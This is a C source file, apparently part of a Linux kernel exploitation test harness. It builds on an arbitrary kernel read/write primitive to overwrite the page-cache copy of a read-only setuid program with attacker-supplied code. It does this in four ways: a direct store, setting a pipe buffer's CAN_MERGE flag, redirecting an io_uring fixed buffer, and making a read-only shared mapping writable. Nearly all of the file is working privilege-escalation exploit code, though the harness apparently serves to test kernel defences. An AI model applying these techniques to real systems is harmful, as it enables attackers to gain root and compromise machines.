// SPDX-License-Identifier: GPL-2.0-only
/*
 * The cached page of a setuid program that the attacker may only read: he stores to it,
 * or has the kernel store what he says. Page tables have nothing to do with it.
 */
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "list.h"
#include "objects.h"
#include "open_files.h"
#include "page_cache.h"
#include "uring.h"

#define PIPE_WORDS	64	/* of struct pipe_inode_info */
#define BUFFER_FLAGS	24	/* in struct pipe_buffer, which begins with the page */
#define CAN_MERGE	0x10
#define RING_WORDS	256	/* of struct io_ring_ctx */
#define BUFFER_WORDS	16	/* of struct io_mapped_ubuf */
#define NODE_BUFFER	16	/* of struct io_rsrc_node */
#define VM_WRITE	2UL
#define VM_MAYWRITE	0x20UL

struct program program;

bool open_program(void)
{
	volatile char *file = setuid_program_map(0);
	struct slot slot;

	program.fd = open(SETUID_PROGRAM, O_RDONLY);
	program.evil = setuid_evil(&program.size);
	if (!file || program.fd < 0 || program.size > MAX_CODE || kwalk((uint64_t)file, LEAF, 0, &slot))
		return false;
	program.page = slot.page;
	program.code = slot.alias + CODE_OFFSET;
	return !kread(program.code, program.old, program.size);
}

enum outcome judge_page(int err)
{
	enum outcome outcome = setuid_program_judge(err);

	if (outcome == WON)
		kwrite(program.code, program.old, program.size);
	return outcome;
}

enum outcome page_cache_store(void)
{
	if (!open_program())
		return broken("cannot map %s, or no page found", SETUID_PROGRAM);
	return judge_page(kwrite(program.code, program.evil, program.size));
}

/* ---- a pipe that has the page ---- */

/* What one of the pointers there leads to, if that begins with this value; or 0. */
static uint64_t find_leading_to(uint64_t from, int nr, uint64_t value)
{
	uint64_t words[PIPE_WORDS];
	int i;

	if (kread(from, words, nr * sizeof(*words)))
		return 0;
	for (i = 0; i < nr; i++)
		if (is_kernel_address(words[i]) && kread64(words[i]) == value)
			return words[i];
	return 0;
}

static bool has_pipe(uint64_t file, void *buffer)
{
	uint64_t words[FILE_WORDS];
	int i;

	if (kread(file, words, sizeof(words)))
		return false;
	for (i = 0; i < FILE_WORDS && !*(uint64_t *)buffer; i++)
		if (is_kernel_address(words[i]))
			*(uint64_t *)buffer = find_leading_to(words[i], PIPE_WORDS, program.page);
	return *(uint64_t *)buffer;
}

/* What is written to the pipe next goes behind what was spliced: into the page. */
static int merge_code(const int *ends, uint64_t buffer)
{
	uint32_t flags = CAN_MERGE;
	int err = kwrite(buffer + BUFFER_FLAGS, &flags, sizeof(flags));

	if (write(ends[1], program.evil, program.size) != (ssize_t)program.size)
		err = err ?: -1;
	return err;
}

enum outcome pipe_page(void)
{
	off_t offset = CODE_OFFSET - 1;
	uint64_t buffer = 0;
	int ends[2];

	if (!open_program() || pipe(ends) ||
	    splice(program.fd, &offset, ends[1], NULL, 1, 0) != 1)
		return broken("no page of %s in a pipe", SETUID_PROGRAM);
	if (!find_open_file(ends[0], has_pipe, &buffer))
		return broken("no pipe found that has the page");
	return judge_page(merge_code(ends, buffer));
}

/* ---- a buffer that io_uring keeps ---- */

struct buffer {
	uint64_t page, slot;	/* struct page; where it is written down */
};

static uint64_t slot_in_buffer(uint64_t buffer, uint64_t page)
{
	return is_kernel_address(buffer) ?
	       find_word(buffer, BUFFER_WORDS * sizeof(uint64_t), page) : 0;
}

/* A newer kernel has a node between the table and the buffer. */
static uint64_t slot_in_node(uint64_t node, uint64_t page)
{
	return is_kernel_address(node) ? slot_in_buffer(kread64(node + NODE_BUFFER), page) : 0;
}

/* A ring points to a table, that to a buffer, and that to its pages. */
static uint64_t slot_in_ring(uint64_t ring, uint64_t page)
{
	uint64_t words[RING_WORDS], first, slot = 0;
	int i;

	if (kread(ring, words, sizeof(words)))
		return 0;
	for (i = 0; i < RING_WORDS && !slot; i++) {
		if (!is_kernel_address(words[i]))
			continue;
		first = kread64(words[i]);
		slot = slot_in_buffer(first, page) ?: slot_in_node(first, page);
	}
	return slot;
}

static bool has_buffer(uint64_t file, void *arg)
{
	struct buffer *buffer = arg;
	uint64_t words[FILE_WORDS];
	int i;

	if (kread(file, words, sizeof(words)))
		return false;
	for (i = 0; i < FILE_WORDS && !buffer->slot; i++)
		if (is_kernel_address(words[i]))
			buffer->slot = slot_in_ring(words[i], buffer->page);
	return buffer->slot;
}

/* The kernel reads a file of ours into the buffer, which is another page by now. */
static int read_code(struct uring *ring, const struct buffer *buffer, char *at)
{
	struct io_uring_sqe entry = {
		.opcode = IORING_OP_READ_FIXED, .addr = (uintptr_t)at + CODE_OFFSET,
		.len = program.size, .fd = memfd_create("code", 0),
	};
	int err;

	if (pwrite(entry.fd, program.evil, program.size, 0) != (ssize_t)program.size)
		return -1;
	err = kwrite64(buffer->slot, program.page);
	err = err ?: uring_operate(ring, &entry);
	kwrite64(buffer->slot, buffer->page);
	return err;
}

enum outcome fixed_buffer(void)
{
	struct iovec vec = { .iov_len = PAGE_SIZE };
	struct buffer buffer = { 0 };
	struct uring ring = { 0 };
	struct slot slot;

	vec.iov_base = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	if (!open_program() || kwalk((uint64_t)vec.iov_base, LEAF, 0, &slot))
		return broken("cannot map %s, or no page found", SETUID_PROGRAM);
	if (uring_open(&ring) || uring_register(&ring, IORING_REGISTER_BUFFERS, &vec, 1))
		return skipped("no io_uring that keeps a buffer");
	buffer.page = slot.page;
	if (!find_open_file(ring.fd, has_buffer, &buffer))
		return broken("no buffer found in the ring");
	return judge_page(read_code(&ring, &buffer, vec.iov_base));
}

/* ---- a mapping that may be written, they say ---- */

enum outcome shared_mapping(void)
{
	volatile char *at;
	uint64_t vma;
	size_t i;

	if (!open_program())
		return broken("cannot map %s, or no page found", SETUID_PROGRAM);
	at = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, program.fd, 0);
	vma = find_vma(at);
	if (at == MAP_FAILED || !vma)
		return broken("no mapping found");
	kwrite64(vma + VMA_PROT, writable_protection());
	kwrite64(vma + VMA_FLAGS, kread64(vma + VMA_FLAGS) | VM_SHARED | VM_WRITE | VM_MAYWRITE);
	for (i = 0; i < program.size; i++)
		at[CODE_OFFSET + i] = ((const char *)program.evil)[i];
	munmap((void *)at, PAGE_SIZE);
	return judge_page(0);
}
